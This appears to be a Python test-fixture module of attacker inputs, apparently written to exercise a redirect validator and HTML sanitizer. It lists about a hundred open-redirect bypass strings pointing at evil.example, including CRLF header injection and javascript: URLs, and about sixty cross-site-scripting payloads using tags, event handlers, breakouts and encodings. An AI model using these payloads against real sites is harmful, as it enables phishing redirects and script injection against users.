"""What an attacker types: a hundred ways to lead away, and sixty scripts that look for a place to run."""

HOST = "evil.example"
LEADS_AWAY = tuple(
    text.replace("EVIL", HOST)
    for text in (
        # Two slashes by any other name.
        "//EVIL", "///EVIL", "////EVIL", "/////EVIL/", "\\\\EVIL", "/\\EVIL", "\\/EVIL", "/\\/EVIL",
        "\\\\\\EVIL", "/\t/EVIL", "/\n/EVIL", "/\r/EVIL", "/\r\n/EVIL", "\t//EVIL", "\n//EVIL",
        "\r\n//EVIL", "/\t\\EVIL", " //EVIL", "\x01//EVIL", "\x00//EVIL", "/\x00/EVIL", "\x1f//EVIL",
        "\x7f//EVIL", "/ /EVIL", "\u00a0//EVIL", "\u2028//EVIL", "\u3000//EVIL", "\ufeff//EVIL",
        "/\u2044EVIL", "/\uff0fEVIL", "\uff0f\uff0fEVIL", "/\u3002/EVIL", "\uff3c\uff3cEVIL",
        "/\u2215EVIL", "/\u29f8EVIL",
        # Escaped once, twice, wrongly.
        "/%2fEVIL", "/%2F%2FEVIL", "%2f%2fEVIL", "/%5cEVIL", "%5c%5cEVIL", "/%09/EVIL", "/%0a/EVIL",
        "/%0d%0a/EVIL", "/%00/EVIL", "/%252fEVIL", "%252f%252fEVIL", "/%c0%afEVIL", "/%E2%81%84EVIL",
        "/%u002fEVIL", "/&#47;EVIL", "/&sol;EVIL", "/%2e%2e//EVIL", "/%2e/%2e/EVIL",
        # Up and out, or past the end of the path.
        "/..//EVIL", "/../EVIL", "/./EVIL", "/.//EVIL", "/profile/..//EVIL", "/profile//EVIL",
        "/profile/;//EVIL", "/profile/?next=//EVIL", "/profile/#//EVIL", "?//EVIL", "#//EVIL", ";//EVIL",
        "/?//EVIL", "/@EVIL", "/profile/@EVIL/..//EVIL", "@EVIL", ":@EVIL", "//127.0.0.1@EVIL",
        "//127.0.0.1:80@EVIL/", "//EVIL@127.0.0.1", "//127.0.0.1\\@EVIL", "//127.0.0.1#@EVIL",
        "//[::1]@EVIL", "//EVIL:80", "//EVIL./", "//%65vil.example",
        # Whole addresses.
        "http://EVIL", "https://EVIL", "HTTPS://EVIL", "https:EVIL", "https:/EVIL", "https:///EVIL",
        "http:\\\\EVIL", "https:\\EVIL", "ht\ttps://EVIL", " https://EVIL", "https://127.0.0.1@EVIL",
        "https://EVIL/profile/", "https://EVIL%2f@127.0.0.1/", "ftp://EVIL", "ws://EVIL",
        "blob:https://EVIL/x", "view-source:https://EVIL", "filesystem:https://EVIL/",
        "intent://EVIL#Intent;end", "mailto:a@EVIL", "tel:1",
        # Scripts as addresses, and headers in one.
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
        "javascript://EVIL/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
        "/profile/\r\nLocation: https://EVIL", "/profile/%0d%0aLocation:%20https://EVIL", "EVIL", ".EVIL",
        "EVIL:443",
    )
)  # fmt: skip

RUN = "window.__run=1"
SCRIPTS = tuple(
    text.replace("RUN", RUN)
    for text in (
        # In text.
        "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script >RUN</script >", "<script/x>RUN</script>",
        "<scr<script>ipt>RUN</scr</script>ipt>", "<script src=data:,RUN></script>",
        "<script\x0c>RUN</script>", "<img src=x onerror=RUN>", "<img src=x onerror='RUN'>",
        "<IMG SRC=x OnErRoR=RUN>", "<img/src=x/onerror=RUN>", "<svg onload=RUN>", "<svg/onload=RUN>",
        "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN>",
        "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
        "<math><mtext></mtext><style><img src=x onerror=RUN>", "<body onload=RUN>",
        "<body onpageshow=RUN>", "<iframe src=javascript:RUN></iframe>",
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>", "<object data=javascript:RUN></object>",
        "<embed src=javascript:RUN>", "<video><source onerror=RUN></video>", "<audio src=x onerror=RUN>",
        "<details open ontoggle=RUN>x</details>", "<input autofocus onfocus=RUN>",
        "<select autofocus onfocus=RUN>", "<marquee onstart=RUN>x</marquee>",
        "<link rel=stylesheet href=x onerror=RUN>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        "<form><button formaction=javascript:RUN>x</button></form>",
        "<style>@import 'javascript:RUN'</style>", "<template><script>RUN</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<!--><img src=x onerror=RUN>-->",
        "<![CDATA[<img src=x onerror=RUN>]]>",
        # Out of an attribute, a title, a text box, a script.
        "\"><script>RUN</script>", "'><script>RUN</script>", "\" onmouseover=RUN x=\"",
        "' autofocus onfocus=RUN x='", "\" autofocus onfocus=RUN \"", "`><img src=x onerror=RUN>",
        "</title><script>RUN</script>", "</textarea><script>RUN</script>",
        "</option></select><img src=x onerror=RUN>", "</script><script>RUN</script>",
        "</style><script>RUN</script>", "--><script>RUN</script>", "\";RUN;//", "';RUN;//", "\\\";RUN;//",
        "${RUN}",
        # Templates and addresses.
        "{{RUN}}", "{% print(1) %}<script>RUN</script>", "{{''.__class__}}<img src=x onerror=RUN>",
        "javascript:RUN", "&lt;img src=x onerror=RUN&gt;", "%3Cscript%3ERUN%3C/script%3E",
        "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    )
)  # fmt: skip
